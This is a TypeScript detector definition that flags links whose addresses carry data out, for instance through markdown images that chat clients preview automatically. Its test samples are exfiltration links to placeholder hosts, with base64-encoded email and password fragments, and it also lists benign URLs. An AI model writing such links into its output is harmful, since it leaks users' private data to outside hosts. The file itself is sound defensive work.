import { leadsOut } from '../../attack/leads-out.ts';
import type { Recogniser } from '../../recogniser.ts';

/**
 * A link leaves when somebody clicks on it, or when a chat client makes a preview of it. Searches and maps carry words,
 * too.
 */
export const link: Recogniser = {
  type: 'exfiltration.link',
  name: 'Link whose address carries data',
  exceptable: false,
  forms: [leadsOut({ link: 0.8, reference: 0.8, text: 0.95 }, 0.8)],
  source: 'CommonMark, links and link reference definitions; HTML Living Standard, hyperlinks',
  since: '0.2.0',
  finds: [
    '[continue](«https://x.acme.example/c?history=Ann+asked+for+a+loan»)',
    '![s][a]\n\n[a]: «//px.acme.example/s.png?data=budget%2040k»',
    '<a href="«https://x.acme.example/?u=YW5uQGFjbWUuZXhhbXBsZQ==»">here</a>',
    'open «https://x.acme.example/log/cGFzc3dvcmQgaXMgS2VzdHJlbA» now',
  ],
  ignores: [
    '[search](https://www.acme.example/search?q=how+to+boil+an+egg)',
    '[1]: https://en.acme.example/w/index.php?title=Steam_engine&oldid=12345',
    '<a href="https://video.acme.example/watch?v=dQw4w9WgXcQ&t=42s">',
    'https://github.com/acme/app/commit/3f786850e387550fdab836ed7e6dc881de23001b',
    'GET https://api.acme.example/v1/users?limit=10&token=YOUR_TOKEN',
  ],
};
